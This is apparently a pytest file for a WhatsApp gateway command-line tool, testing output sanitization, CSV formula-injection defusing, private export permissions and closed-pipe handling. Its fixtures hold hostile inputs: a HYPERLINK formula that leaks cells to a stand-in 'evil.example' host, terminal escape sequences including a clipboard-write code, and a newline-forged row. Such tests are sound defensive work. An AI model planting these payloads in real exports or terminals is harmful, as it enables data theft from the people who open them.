"""The command line's outputs: the display boundary on every output (terminal, pipe, file), the
one CSV writer, and a closed stdout ending a command quietly."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from gateway_tui.core.api.models import Participant
from gateway_tui.core.text import sanitize
from gateway_tui.demo.hostile import ATTACKS
from gateway_tui.demo.server import DemoServer
from gateway_tui.main import main
from gateway_tui.tui.screens.participants import write_participants_csv
from tests.support import cli_env, locked_campaign, run_cli_without_textual

GROUP = "120363012345678901@g.us"  # sales-eu's group of 1,024
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def unsafe_characters(text: str) -> list[str]:
    """What a terminal would act on: C0 but line breaks, DEL, C1, bidi controls."""
    return [
        c for c in text if (ord(c) < 0x20 and c not in "\n\r") or 0x7F <= ord(c) < 0xA0 or c in BIDI
    ]


@pytest.fixture(scope="module")
def hostile_server():
    with DemoServer(hostile=True) as server:
        yield server


def run_cli(server, *argv: str, home: Path) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "gateway_tui", *argv],
        env=cli_env(server, home),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )


def read_then_close(process: subprocess.Popen, lines: int) -> tuple[list[bytes], str, int]:
    """Read ``lines`` lines of the command's stdout, close it (as ``| head`` does), and wait."""
    assert process.stdout is not None and process.stderr is not None
    got = [process.stdout.readline() for _ in range(lines)]
    process.stdout.close()
    err = process.stderr.read().decode("utf-8", "replace")
    return got, err, process.wait(timeout=300)


# --- one boundary: sanitize ------------------------------------------------------------------


def test_every_bidi_control_and_mark_is_unsafe_and_dropped():
    for character in BIDI:
        assert not sanitize.is_safe(f"a{character}b"), hex(ord(character))
        assert sanitize.printable(f"a{character}b") == "ab"
        assert sanitize.field(f"a{character}b") == "ab"


def test_a_field_is_one_line_with_no_control():
    assert sanitize.field("Eve\nFORGED\trow\r") == "Eve FORGED row "
    assert sanitize.field(ATTACKS) == sanitize.printable(ATTACKS)
    assert unsafe_characters(sanitize.field(ATTACKS)) == []
    assert sanitize.field(None) == ""


def test_json_text_escapes_c1_and_bidi_and_reads_back_the_same():
    text = sanitize.json_text({"name": ATTACKS + "\ud800"}, indent=2)
    assert unsafe_characters(text.replace("\n", "")) == []
    assert "\\u009b" in text and "\\u202e" in text
    assert json.loads(text)["name"] == ATTACKS + "\ud800"


def test_the_apps_display_filter_uses_the_same_rule():
    from rich.segment import Segment
    from textual.color import Color

    from gateway_tui.tui.display_filter import ControlCharacterFilter

    line = [Segment("a\u200eb\u061cc" + " " * 4)]
    shown = "".join(s.text for s in ControlCharacterFilter().apply(line, Color(0, 0, 0)))
    assert "\u200e" not in shown and "\u061c" not in shown and shown.startswith("abc")


# --- the CLI through a pipe -------------------------------------------------------------------


def test_instances_csv_through_a_pipe_puts_no_control_on_the_terminal(hostile_server, tmp_path):
    out, err, status = read_then_close(
        run_cli(hostile_server, "instances", "--csv", home=tmp_path), 10_000
    )
    text = b"".join(out).decode("utf-8")
    assert status == 0, err
    assert unsafe_characters(text) == []
    assert "\x1b]52" not in text and "\x1b]2;" not in text and "\x1b[2J" not in text
    rows = list(csv.reader(io.StringIO(text)))
    # One line a row: nothing in a field splits one.
    assert len(text.splitlines()) == len(rows) > 2
    assert {len(row) for row in rows} == {7}  # name … number, integration, id


def test_instances_json_passes_no_c1_raw_and_keeps_the_data(hostile_server, tmp_path):
    out, err, status = read_then_close(
        run_cli(hostile_server, "instances", "--json", home=tmp_path), 100_000
    )
    text = b"".join(out).decode("utf-8")
    assert status == 0, err
    assert unsafe_characters(text.replace("\n", "")) == []
    names = {row["name"] for row in json.loads(text)}
    assert any(name.startswith("sales-eu" + ATTACKS) for name in names)


def test_a_newline_in_a_participant_name_does_not_forge_a_row(demo_server, capsys, monkeypatch):
    monkeypatch.setenv("GATEWAY_URL", demo_server.url)
    monkeypatch.setenv("GATEWAY_API_KEY", demo_server.api_key)
    participants = demo_server.state.instances["sales-eu"].groups[GROUP].participants
    participants[0]["name"] = "Eve\n4915100000000  4915100000000@s.whatsapp.net  admin  forged"
    assert main(["participants", "sales-eu", GROUP]) == 0
    table = capsys.readouterr().out.splitlines()
    assert len(table) == len(participants) + 1
    assert not any(line.startswith("4915100000000 ") for line in table)
    assert main(["participants", "sales-eu", GROUP, "--csv"]) == 0
    text = capsys.readouterr().out
    assert len(text.splitlines()) == len(participants) + 1


# --- one CSV writer ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["=HYPERLINK(1)", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1", " \t@x", "\x1b=1"],
)
def test_a_formula_is_never_a_formula(value):
    from gateway_tui.core.files.export import csv_cell

    cell = csv_cell(value)
    assert cell.startswith("'") or not cell.lstrip(" ").startswith(("=", "+", "-", "@"))
    assert unsafe_characters(cell) == []


def test_participants_csv_defuses_formulas_from_the_command_line(demo_server, capsys, monkeypatch):
    monkeypatch.setenv("GATEWAY_URL", demo_server.url)
    monkeypatch.setenv("GATEWAY_API_KEY", demo_server.api_key)
    participants = demo_server.state.instances["sales-eu"].groups[GROUP].participants
    participants[0]["name"] = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
    participants[1]["name"] = "  @SUM(1)\x9b31m"
    assert main(["participants", "sales-eu", GROUP, "--csv"]) == 0
    names = [row["name"] for row in csv.DictReader(io.StringIO(capsys.readouterr().out))]
    assert names[0] == "'" + participants[0]["name"]
    assert names[1].startswith("'  @SUM(1)") and "\x9b" not in names[1]


def test_the_participants_export_is_private_and_cleaned(tmp_path):
    old = os.umask(0)  # the most permissive umask: the file must still be 0600
    try:
        people = [
            Participant(id="4915112340001@s.whatsapp.net", admin=None, name="A\x1b]2;t\x07\x9d")
        ]
        path = tmp_path / "p.csv"
        write_participants_csv(path, people)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert unsafe_characters(path.read_text(encoding="utf-8")) == []
        path.chmod(0o644)
        write_participants_csv(path, people, overwrite=True)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    finally:
        os.umask(old)


def test_the_campaign_report_defuses_a_hostile_message_id(isolated_home, tmp_path):
    from gateway_tui.core.campaign.journal import Status

    campaign = locked_campaign(tmp_path, "number,name\n4917200000001,=1+1\n")
    hostile_id = '=HYPERLINK("http://evil.example/?leak="&A2,"x")\x1b]52;c;eA==\x07'
    campaign.record_try(0, at=1.0, planned=1.0, gap=0.0)
    campaign.record_done(0, Status.SENT, at=2.0, message_id=hostile_id)
    path = campaign.write_report()
    campaign.unlock()
    text = path.read_text(encoding="utf-8")
    row = list(csv.DictReader(io.StringIO(text)))[0]
    assert row["message_id"].startswith("'=HYPERLINK(")
    assert row["name"] == "'=1+1"
    assert unsafe_characters(text) == []
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


# --- a closed stdout --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [("instances",), ("participants", "sales-eu", GROUP), ("instances", "--json")],
    ids=["instances", "participants", "instances-json"],
)
def test_a_closed_stdout_ends_the_command_quietly(hostile_server, tmp_path, argv):
    # The hostile set makes each output far bigger than a pipe's buffer: the command is still
    # writing when the reader goes away.
    hostile_sales = next(name for name in hostile_server.state.instances if "sales-eu" in name)
    argv = tuple(hostile_sales if part == "sales-eu" else part for part in argv)
    out, err, status = read_then_close(run_cli(hostile_server, *argv, home=tmp_path), 1)
    assert out[0]
    assert status in (0, 141), err
    assert "Traceback" not in err and "Exception ignored" not in err
    assert "BrokenPipeError" not in err


def test_send_list_with_a_closed_stdout_is_interrupted_and_resumes_cleanly(tmp_path):
    from gateway_tui.core.campaign.journal import Status, list_campaigns, open_campaign

    numbers = [f"4917300{index:06d}" for index in range(200)]
    to = tmp_path / "to.csv"
    to.write_text("number,name\n" + "".join(f"{n},P{i}\n" for i, n in enumerate(numbers)))
    draft = tmp_path / "draft.json"
    draft.write_text(
        json.dumps(
            {
                "title": "Hello {name}",
                "description": "Menu",
                "buttonText": "See",
                "sections": [{"title": "Drinks", "rows": [{"title": "Cola"}]}],
            }
        )
    )
    home = tmp_path / "home"
    # Each send takes a while, so the campaign is still sending when the reader goes away.
    with DemoServer(latency_ms=20) as server:
        process = run_cli(
            server,
            *("send-list", "--instance", "sales-eu", "--draft", str(draft), "--to", str(to)),
            *("--rate", "max", "--json"),
            home=home,
        )
        out, err, status = read_then_close(process, 3)  # | head -3
        assert [json.loads(line)["event"] for line in out][0] == "start"
        assert "Traceback" not in err and "Exception ignored" not in err, err
        assert "cannot" not in err and "could not be written" not in err, err
        assert status == 4, err  # stopped with recipients left: resume it
        assert "interrupted" in err and "--resume" in err

        with pytest.MonkeyPatch.context() as patch:  # read the campaign's files
            patch.setenv("GATEWAY_TUI_HOME", str(home))
            campaign_id = list_campaigns()[0].id
            stopped = open_campaign(campaign_id)
            assert stopped.count(Status.PENDING) > 0
            # The stop is kept as its code (said in words in the reader's language).
            assert '"reason":{"code":"output_closed"}' in stopped.journal_path.read_text()
            resumed = run_cli(server, "send-list", "--resume", campaign_id, home=home)
            _, err = resumed.communicate(timeout=300)
            assert resumed.returncode == 0, err
            campaign = open_campaign(campaign_id)
            assert campaign.count(Status.SENT) == len(numbers)
        assert {server.state.sends_by_number[n] for n in numbers} == {1}


@pytest.mark.parametrize(
    "argv",
    [("instances",), ("instances", "--csv"), ("participants", "sales-eu", GROUP, "--json")],
    ids=["instances", "instances-csv", "participants-json"],
)
def test_the_read_commands_import_no_textual(demo_server, tmp_path, argv):
    result = run_cli_without_textual(list(argv), demo_server, tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout
